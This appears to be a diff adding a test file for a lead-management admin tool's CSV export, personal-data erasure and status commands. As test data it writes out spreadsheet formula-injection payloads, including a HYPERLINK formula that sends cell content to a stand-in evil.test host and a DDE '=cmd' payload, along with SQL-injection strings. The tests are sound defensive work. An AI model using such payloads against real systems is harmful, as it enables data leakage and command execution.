@@ -1,0 +1,230 @@
+import { mkdtemp, readFile, rm, stat } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
+import type { Db } from "../../app/db/client.server.ts";
+import { rowsFor } from "../../tests/support/pipeline-rows.ts";
+import { openTestDatabase, type TestDatabase } from "../../tests/support/sqlite-database.ts";
+import { deleteData, retry } from "./change.ts";
+import { csv, eraseLeads, exportLeads } from "./leads.ts";
+import type { Confirm } from "./run.ts";
+import { show } from "./show.ts";
+import { status } from "./status.ts";
+
+const now = Date.UTC(2026, 10, 20, 15);
+const guide = "clickup-mistakes";
+const leadId = "eeee1111-0000-4000-8000-000000000001";
+
+let tables: TestDatabase;
+let db: Db;
+let rows: ReturnType<typeof rowsFor>;
+
+beforeEach(() => {
+  tables = openTestDatabase();
+  db = tables.db;
+  rows = rowsFor(tables, now);
+});
+
+const outbox = () => tables.query("select * from outbox order by next_at, dedupe_key");
+const many = (count: number) => {
+  for (let nth = 0; nth < count; nth += 1) rows.lead(`lead-${String(nth).padStart(4, "0")}`);
+};
+
+const yes = () => Promise.resolve();
+const erase = (typed: string, confirm: Confirm = yes) => eraseLeads(db, typed, now + 1, confirm);
+
+describe("leads export", () => {
+  let folder = "";
+  beforeAll(async () => void (folder = await mkdtemp(join(tmpdir(), "leads-"))));
+  afterAll(() => rm(folder, { recursive: true }));
+
+  test("writes everybody, formula-safe, each touch in columns, for the owner's eyes alone", async () => {
+    const attribution = JSON.stringify({
+      first: { at: now, landing: "/FREE", campaign: { utm_source: "-ad" } },
+      last: { at: now, landing: "/AI4B", campaign: { gclid: "c1" } },
+    });
+    rows.lead("a", { attribution, first_name: '=HYPERLINK("x")', last_name: "+1" });
+    rows.lead("b", { kind: "members-offer", guide_id: null, email_key: "left" });
+    rows.lead("erased", { email: null });
+    rows.lead("trap", { quarantined: 1 });
+    tables.insert("unsubscribes", { email_key: "left", created_at: now });
+    const path = join(folder, "deep/leads.csv");
+    expect((await exportLeads(db, path)).data).toEqual({ path, leads: 2 });
+    expect((await stat(path)).mode & 0o777).toBe(0o600);
+    const time = "2026-11-20T15:00:00.000Z";
+    expect((await readFile(path, "utf8")).split("\r\n")).toEqual([
+      '"id","created_at","kind","guide","first_name","last_name","email","wants_marketing_mail","first_at","first_landing","first_utm_source","last_at","last_gclid","last_landing"',
+      `"a","${time}","guide","clickup-mistakes","'=HYPERLINK(""x"")","'+1","ada@example.test","yes","${time}","/FREE","'-ad","${time}","c1","/AI4B"`,
+      `"b","${time}","members-offer","","Ada","Lovelace","ada@example.test","no","","","","","",""`,
+      "",
+    ]);
+  });
+
+  test("reads in chunks", async () => {
+    many(2_001);
+    expect((await exportLeads(db, join(folder, "many.csv"))).data).toMatchObject({ leads: 2_001 });
+  });
+});
+
+describe("leads erase", () => {
+  test("leaves nothing personal of one person, and everything of the others", async () => {
+    rows.lead("a", { email: "Ada@Example.test", email_key: "ada" });
+    rows.lead("b", { email: "ada+tag@example.test", email_key: "ada" });
+    rows.lead("c", { email: "bob@example.test", email_key: "bob" });
+    tables.insert("unsubscribes", { email_key: "ada", created_at: now });
+    tables.insert("orders", {
+      ...{ id: "pi_1", amount: 2_700, currency: "usd", paid_at: now, created_at: now },
+      ...{ email: "ada@example.test", email_key: "ada" },
+    });
+    rows.job("job");
+    rows.request("aaaa-request", "job");
+    const other = tables.query("select * from leads where id = 'c'");
+
+    const asked = vi.fn(yes);
+    const { text, data } = await erase(" ada@example.TEST ", asked);
+    const question = "Erases 2 leads and the address of 1 orders. That cannot be undone.";
+    expect(asked.mock.calls).toEqual([[question]]);
+    expect(data).toMatchObject({ leads: ["a", "b"], orders: ["pi_1"] });
+    expect(text).toContain("delete aaaa-request");
+    expect(text).not.toMatch(/example/);
+    const gone = { email: null, first_name: null, last_name: null, attribution: null };
+    expect(tables.query("select * from leads where id in ('a', 'b')")).toMatchObject([
+      { ...gone, email_key: null, dedupe_key: "a", erased_at: now + 1, kind: "guide" },
+      { ...gone, email_key: null, dedupe_key: "b" },
+    ]);
+    expect(tables.query("select * from leads where id = 'c'")).toEqual(other);
+    expect(tables.query("select * from orders")).toMatchObject([
+      { email: null, email_key: null, amount: 2_700 },
+    ]);
+    expect(tables.query("select * from unsubscribes")).toHaveLength(1);
+    await expect(erase("ada@example.test")).rejects.toThrow(/no lead and no order/);
+  });
+
+  test("leaves nothing of a booking, which is found by the link of its guest", async () => {
+    const api = "https://api.calendly.com/scheduled_events/E1";
+    const bookingOf = (guest: string) =>
+      JSON.stringify({ page: "book", event: api, invitee: `${api}/invitees/${guest}` });
+    const nobody = { kind: "booking", guide_id: null, email: null, email_key: null };
+    const names = { first_name: null, last_name: null };
+    for (const guest of ["I1", "I2"]) {
+      rows.lead(guest, { ...nobody, ...names, booking: bookingOf(guest), attribution: "{}" });
+    }
+    rows.lead("a");
+    const others = () => tables.query("select * from leads where id <> 'I1'");
+    const before = others();
+
+    expect((await erase(` ${api}/invitees/I1 `)).data).toMatchObject({ leads: ["I1"], orders: [] });
+    expect(tables.query("select * from leads where id = 'I1'")).toMatchObject([
+      { booking: null, attribution: null, dedupe_key: "I1", erased_at: now + 1, kind: "booking" },
+    ]);
+    expect(others()).toEqual(before);
+    for (const link of [`${api}/invitees/I1`, `${api}/invitees/`, "https://x.test/' or 1=1 --"]) {
+      await expect(erase(link)).rejects.toThrow(/no booking of that invitee|no email/);
+    }
+  });
+
+  test("takes a booking that carries an address along with it", async () => {
+    rows.lead("a", { kind: "booking", guide_id: null, booking: '{"invitee":"https://i.test"}' });
+    await erase("ada@example.test");
+    expect(tables.query("select booking from leads")).toEqual([{ booking: null }]);
+  });
+
+  test.each(["", "ada", "a b@c.test", "%@%' or 1=1 --"])("%j is no address", async (typed) => {
+    rows.lead("a");
+    await expect(erase(typed)).rejects.toThrow(/no email address/);
+  });
+
+  test("a quote in an address is only a quote", async () => {
+    rows.lead("a", { email: "o'neil@example.test", email_key: "o" });
+    rows.lead("b");
+    expect((await erase("o'neil@example.test")).data).toMatchObject({ leads: ["a"] });
+  });
+});
+
+describe("a lead's id", () => {
+  const about = { kind: "lead-webhook", state: "dead", attempts: 1, finished_at: now };
+
+  test("shows it without telling who it is, from either end", async () => {
+    rows.lead(leadId);
+    rows.message("ffff2222", leadId, { ...about, last_error: "http_410" });
+    for (const id of [leadId, "eeee", "ffff2222"]) {
+      const { data, text } = await show(db, id, now);
+      expect(data).toMatchObject({
+        job: null,
+        lead: { id: leadId, kind: "guide", guideId: guide, hasAddress: 1, wantsMail: 1 },
+        messages: [{ id: "ffff2222", effect: "lead-webhook", lastError: "http_410" }],
+      });
+      expect(text).toContain("marketing mail");
+      expect(`${text}${JSON.stringify(data)}`).not.toMatch(/Ada|Lovelace|example\.test/);
+    }
+  });
+
+  test("replays what was given up under the same key", async () => {
+    rows.lead(leadId);
+    rows.message("ffff2222", leadId, about);
+    rows.message("ffff3333", leadId, { kind: "lead-operator", state: "done" });
+    expect((await retry(db, leadId, now)).data).toMatchObject({ due: ["ffff2222"] });
+    expect(outbox().find(({ id }) => id === "ffff2222")).toMatchObject({
+      dedupe_key: `${leadId}:lead-webhook`,
+      state: "pending",
+      attempts: 0,
+    });
+  });
+
+  test("is no job's", async () => {
+    rows.lead(leadId);
+    await expect(deleteData(db, leadId, now, yes)).rejects.toThrow(/leads erase EMAIL/);
+  });
+});
+
+test("status counts leads by kind", async () => {
+  many(3);
+  rows.lead("old", { created_at: now - 8 * 86_400_000, quarantined: 1 });
+  rows.lead("offer", { kind: "members-offer", guide_id: null });
+  rows.lead("erased", { erased_at: now });
+  const report = await status(db, now);
+  expect(report.data).toMatchObject({
+    leads: [
+      { kind: "guide clickup-mistakes", leads: 4, quarantined: 1, lastWeek: 3 },
+      { kind: "members-offer", leads: 1, quarantined: 0, lastWeek: 1 },
+    ],
+  });
+  expect(report.text).toContain("guide clickup-mistakes");
+});
+
+test("fields are quoted, quotes doubled, lines end as RFC 4180 wants it", () => {
+  expect(
+    csv([
+      ["a", 'say "hi"', "x,y"],
+      [1, null, "two\r\nlines"],
+    ]),
+  ).toBe('"a","say ""hi""","x,y"\r\n"1","","two\r\nlines"\r\n');
+});
+
+test.each([
+  "=1+1",
+  '=HYPERLINK("http://evil.test?x="&A1,"click")',
+  "+1",
+  "-1+1|cmd",
+  "@SUM(A1:A9)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  "\0=1",
+  "  =1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
+  "\tplain",
+  '=cmd|" /C calc"!A0',
+])("%j is no formula any more", (value) => {
+  const written = csv([[value]]);
+  expect(written.startsWith(`"'`)).toBe(true);
+  expect(written.slice(2, -3).replaceAll('""', '"')).toBe(value);
+});
+
+test.each(["Ada", "ada+tag@example.test", "a=b", "O'Neil", "https://x.test/?a=-1"])(
+  "%j stays as it is",
+  (value) => expect(csv([[value]])).toBe(`"${value}"\r\n`),
+);
